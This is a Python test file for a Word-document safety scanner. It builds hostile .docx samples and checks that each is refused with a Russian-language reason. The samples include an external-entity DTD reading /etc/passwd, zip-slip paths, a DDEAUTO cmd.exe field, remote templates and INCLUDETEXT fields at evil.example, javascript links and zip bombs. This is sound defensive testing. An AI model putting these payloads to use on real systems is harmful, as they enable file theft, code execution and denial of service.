"""Hostile files are refused with the reason named, before anything opens them; honest ones pass."""

import io
import re
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest
from docx import Document
from docx_cases import docx, para

from roadmap.documents.docx_guard import UnsafeDocument, scan_docx

HONEST = docx(para("Привет"), header=para("h"), footnote=para("f"), title="Т")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def typed(old: str, new: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old.encode() in parts["[Content_Types].xml"]
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(old.encode(), new.encode())

    return rebuilt(change)


def rebuilt(change: Callable[[dict[str, bytes]], object], data: bytes = HONEST, method: int = 8) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return saved.getvalue()


def plus(name: str, content: bytes = b"<x/>") -> bytes:
    return rebuilt(lambda parts: parts.update({name: content}))


def inserted(part: str, before: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert before in parts[part]
        parts[part] = parts[part].replace(before, new + before, 1)

    return rebuilt(change)


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    link = f'<Relationship Id="q" Type="{REL}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return inserted(RELS, b"</Relationships>", link.encode())


def field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return inserted(BODY, b"<w:sectPr", f"<w:p>{begin}{runs}{end}</w:p>".encode())


def patched(offset_of: bytes, shift: int, form: str, value: int) -> bytes:
    """The honest file with one number of its first central or local header changed."""
    data = bytearray(HONEST)
    struct.pack_into(form, data, data.index(offset_of) + shift, value)
    return bytes(data)


def special(**attributes: int) -> bytes:
    saved = io.BytesIO(HONEST)
    with zipfile.ZipFile(saved, "a") as archive:
        entry = zipfile.ZipInfo("word/link.xml")
        for name, value in attributes.items():
            setattr(entry, name, value)
        archive.writestr(entry, b"<x/>")
    return saved.getvalue()


def doubled(name: str) -> bytes:
    saved = io.BytesIO(HONEST)
    with zipfile.ZipFile(saved, "a") as archive, pytest.MonkeyPatch.context() as patch:
        patch.setattr(zipfile.ZipFile, "_writecheck", lambda self, entry: None)
        archive.writestr(name, b"<x/>")
    return saved.getvalue()


def overlapping() -> bytes:
    """The central directory names the same stored bytes twice."""
    end = HONEST.rindex(b"PK\5\6")
    disk = struct.unpack("<4s4H2LH", HONEST[end:])
    entry = HONEST[disk[6] : disk[6] + 46]
    name_length = struct.unpack_from("<H", entry, 28)[0]
    again = HONEST[disk[6] : disk[6] + 46 + name_length].replace(b"[Content_Types].xml", b"[Content_Types].xmm")
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, disk[3] + 1, disk[4] + 1, disk[5] + len(again), disk[6], 0)
    return HONEST[:end] + again + tail


def lying(declared: int) -> bytes:
    """A part of 900 KB that both headers declare to be of another size."""
    content = b"<x>" + b" " * 900_000 + b"</x>"
    data = bytearray(rebuilt(lambda parts: parts.update({"word/big.xml": content})))
    for sign, shift in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        for match in re.finditer(re.escape(sign), bytes(data)):
            name = 30 if sign == b"PK\3\4" else 46
            if data[match.start() + name :].startswith(b"word/big.xml"):
                struct.pack_into("<L", data, match.start() + shift, declared)
    return bytes(data)


DTD = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
BOMB = b"<x>" + b"a" * 40 * 2**20 + b"</x>"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a zip": (lambda: b"%PDF-1.7", "это не документ .docx"),
    "empty": (lambda: b"", "это не документ .docx"),
    "another zip": (lambda: rebuilt(lambda parts: parts.pop("[Content_Types].xml")),
                    "в архиве нет описания документа Word"),
    "a spreadsheet": (lambda: typed("wordprocessingml.document.main", "spreadsheetml.sheet.main"),
                      "это не документ .docx"),
    "zip after a picture": (lambda: b"GIF89a" + HONEST, "это не документ .docx"),
    "page after the zip": (lambda: HONEST + b"<html>", "после архива есть посторонние данные или он обрезан"),
    "cut short": (lambda: HONEST[:-100], "после архива есть посторонние данные или он обрезан"),
    "too large": (lambda: HONEST + b"\0" * 20 * 2**20, "файл больше 20 МБ"),
    "100k entries": (lambda: rebuilt(lambda p: p.update({f"{n}": b"" for n in range(2_000)})),
                     "в архиве больше 1000 частей"),
    "overlap": (overlapping, "части архива накладываются или между ними посторонние данные"),
    "hidden bytes": (lambda: HONEST[: HONEST.index(b"PK\1\2")] + b"hide" + moved(4),
                     "в архиве есть посторонние данные"),
    "encrypted": (lambda: patched(b"PK\1\2", 8, "<H", 1), "документ зашифрован"),
    "other compression": (lambda: rebuilt(lambda p: None, method=14), "необычный способ сжатия"),
    "local header differs": (lambda: patched(b"PK\3\4", 22, "<L", 7), "заголовки архива противоречат оглавлению"),
    "local name differs": (lambda: patched(b"PK\3\4", 31, "<B", 65), "заголовки архива противоречат оглавлению"),
    "lies: smaller": (lambda: lying(1_000), "часть «word/big.xml» не того размера, что заявлен"),
    "lies: larger": (lambda: lying(970_000), "часть «word/big.xml» не того размера, что заявлен"),
    "checksum": (lambda: broken_checksum(), "часть «[Content_Types].xml» не того размера, что заявлен"),
    "slip": (lambda: plus("../evil.xml"), "имя части ведёт за пределы документа"),
    "slip inside": (lambda: plus("word/../../evil.xml"), "имя части ведёт за пределы документа"),
    "absolute": (lambda: plus("/etc/passwd"), "имя части ведёт за пределы документа"),
    "drive": (lambda: plus("C:/evil.xml"), "имя части ведёт за пределы документа"),
    "backslash": (lambda: plus("word\\evil.xml"), "имя части ведёт за пределы документа"),
    "direction": (lambda: plus("word/\u202elmx.exe.xml"), "недопустимое имя части"),
    "long name": (lambda: plus("word/" + "я" * 120 + ".xml"), "недопустимое имя части"),
    "device": (lambda: plus("word/CON.xml"), "недопустимое имя части"),
    "duplicate": (lambda: doubled(BODY), "имя части повторяется"),
    "duplicate by case": (lambda: plus("word/DOCUMENT.xml"), "имя части повторяется"),
    "symlink": (lambda: special(create_system=3, external_attr=0o120777 << 16),
                "в архиве есть ссылка или особый файл"),
    "macros": (lambda: plus("word/vbaProject.bin", b"x"), "в документе есть макросы"),
    "docm": (lambda: typed(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
             "в документе есть макросы"),
    "macros by link": (lambda: linked("vbaProject", "a.xml", "Internal"), "в документе есть макросы"),
    "ActiveX": (lambda: plus("word/activeX/activeX1.xml"), "в документе есть элементы ActiveX"),
    "OLE": (lambda: plus("word/embeddings/oleObject1.bin", b"x"), "в документе есть внедрённые объекты"),
    "OLE renamed": (lambda: plus("word/media/image9.png", b"\xd0\xcf\x11\xe0\xa1"),
                    "в документе есть внедрённые объекты"),
    "program": (lambda: plus("word/media/a.js", b"x"), "в документе есть посторонние файлы"),
    "program renamed": (lambda: plus("word/media/image9.png", b"MZ\x90"), "в документе есть внедрённые объекты"),
    "outer template": (lambda: linked("attachedTemplate", "https://evil.example/t.dotm"),
                       "документ подключает внешний шаблон: отвяжите его в Word (Разработчик → Шаблон)"),
    "remote picture": (lambda: linked("image", "http://evil.example/x.png"),
                       "рисунок загружается из сети: вставьте его в документ"),
    "remote frame": (lambda: linked("frame", "http://evil.example/"), "документ загружает данные извне"),
    "HTML chunk": (lambda: linked("aFChunk", "a.xml", "Internal"),
                   "в документе есть вложенный посторонний документ"),
    "script link": (lambda: linked("hyperlink", "javascript:alert(1)"), "недопустимая ссылка в документе"),
    "link outside": (lambda: linked("image", "../../../etc/passwd", "Internal"),
                     "ссылка ведёт за пределы документа"),
    "link outside, coded": (lambda: linked("image", "%2e%2e/%2e%2e/x", "Internal"),
                            "ссылка ведёт за пределы документа"),
    "DDE": (lambda: field(" DDEAUTO c:\\\\cmd.exe "),
            "в документе есть поле, которое загружает или запускает постороннее"),
    "DDE over runs": (lambda: field(" D", "DE", "AUTO x"),
                      "в документе есть поле, которое загружает или запускает постороннее"),
    "DDE in a simple field": (
        lambda: inserted(BODY, b"<w:sectPr", b'<w:p><w:fldSimple w:instr="&#68;DE x"/></w:p>'),
        "в документе есть поле, которое загружает или запускает постороннее"),
    "remote text": (lambda: field('INCLUDETEXT "http://evil.example/"'),
                    "в документе есть поле, которое загружает или запускает постороннее"),
    "DTD": (lambda: plus("word/a.xml", DTD.encode()), "в части «word/a.xml» есть DTD, это запрещено"),
    "DTD in links": (lambda: plus("word/_rels/a.rels", DTD.encode()),
                     "в части «word/_rels/a.rels» есть DTD, это запрещено"),
    "DTD in types": (lambda: inserted("[Content_Types].xml", b"<Types", b"<!DOCTYPE x>"),
                     "в части «[Content_Types].xml» есть DTD, это запрещено"),
    "DTD, UTF-16": (lambda: plus("word/a.xml", DTD.encode("utf-16")),
                    "в части «word/a.xml» есть DTD, это запрещено"),
    "DTD, UTF-16 unmarked": (lambda: plus("word/a.xml", DTD.encode("utf-16-be")),
                             "в части «word/a.xml» есть DTD, это запрещено"),
    "DTD, other name": (lambda: plus("word/a.dat", b"\xef\xbb\xbf" + DTD.encode()),
                        "в части «word/a.dat» есть DTD, это запрещено"),
    "UTF-7": (lambda: plus("word/a.xml", b'<?xml version="1.0" encoding="UTF-7"?><x/>'),
              "часть «word/a.xml» в неизвестной кодировке"),
    "UTF-32": (lambda: plus("word/a.xml", DTD.encode("utf-32")), "часть «word/a.xml» в неизвестной кодировке"),
    "bomb": (lambda: plus("word/a.xml", BOMB), "после распаковки документ слишком велик"),
    "many small bombs": (lambda: rebuilt(lambda p: p.update({f"word/{n}.xml": BOMB[: 2**20] for n in range(70)})),
                         "после распаковки документ слишком велик"),
    "scripted picture": (lambda: plus("word/media/a.svg", b"<svg><script/></svg>"),
                         "в документе есть рисунок с программой внутри"),
}  # fmt: skip


def moved(shift: int) -> bytes:
    """The honest file's directory, for bytes put in before it."""
    start = HONEST.index(b"PK\1\2")
    tail = bytearray(HONEST[start:])
    end = tail.rindex(b"PK\5\6")
    struct.pack_into("<L", tail, end + 16, start + shift)
    return bytes(tail)


def broken_checksum() -> bytes:
    data = bytearray(HONEST)
    for sign, shift in ((b"PK\3\4", 14), (b"PK\1\2", 16)):
        struct.pack_into("<L", data, data.index(sign) + shift, zlib.crc32(b"other"))
    return bytes(data)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_the_reason(name: str) -> None:
    build, reason = HOSTILE[name]
    with pytest.raises(UnsafeDocument) as caught:
        scan_docx(build())
    assert caught.value.reason == reason
    assert str(caught.value) == f"Файл не принят: {reason}."


def test_a_bomb_is_refused_without_being_inflated() -> None:
    bomb = HOSTILE["bomb"][0]()
    tracemalloc.start()
    with pytest.raises(UnsafeDocument):
        scan_docx(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 2**20


def with_descriptors() -> bytes:
    """Written to a stream: sizes follow the data."""

    class Stream(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, piece: bytes) -> int:  # type: ignore[override]
            self.data += piece
            return len(piece)

    stream = Stream()
    with zipfile.ZipFile(io.BytesIO(HONEST)) as old, zipfile.ZipFile(stream, "w", 8) as new:  # type: ignore[arg-type]
        for entry in old.namelist():
            new.writestr(entry, old.read(entry))
    return bytes(stream.data)


def pictured() -> bytes:
    document = Document(io.BytesIO(HONEST))
    document.add_paragraph("a", style="List Bullet")
    document.add_table(2, 2)
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


CLEAN: dict[str, Callable[[], bytes]] = {
    "python-docx": lambda: HONEST,
    "tables and lists": pictured,
    "stored": lambda: rebuilt(lambda parts: None, method=0),
    "streamed": with_descriptors,
    "folders": lambda: plus("word/media/", b""),
    "web link": lambda: linked("hyperlink", "https://example.org/a?b=1#c"),
    "mail link": lambda: linked("hyperlink", "mailto:a@example.org"),
    "file link": lambda: linked("hyperlink", "file:///C:\\docs\\a.docx"),
    "page fields": lambda: field(" PAGE ", " \\* MERGEFORMAT "),
    "date and contents": lambda: field(' TOC \\o "1-3" \\h '),
    "picture": lambda: plus("word/media/image1.png", b"\x89PNG\r\n\x1a\n\0\0<!DOCTYPE"),
    "font": lambda: plus("word/fonts/font1.odttf", b"\xff\xfe\0\1\2"),
    "chart data": lambda: plus("word/embeddings/Microsoft_Excel_Sheet1.xlsx", b"PK\3\4"),
    "UTF-16 part": lambda: plus("customXml/item9.xml", '<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16")),
    "escaped DTD in a text": lambda: docx(para("&lt;!DOCTYPE html&gt; DDE LINK")),
}


@pytest.mark.parametrize("name", CLEAN)
def test_honest_files_pass(name: str) -> None:
    assert scan_docx(CLEAN[name]()) is None
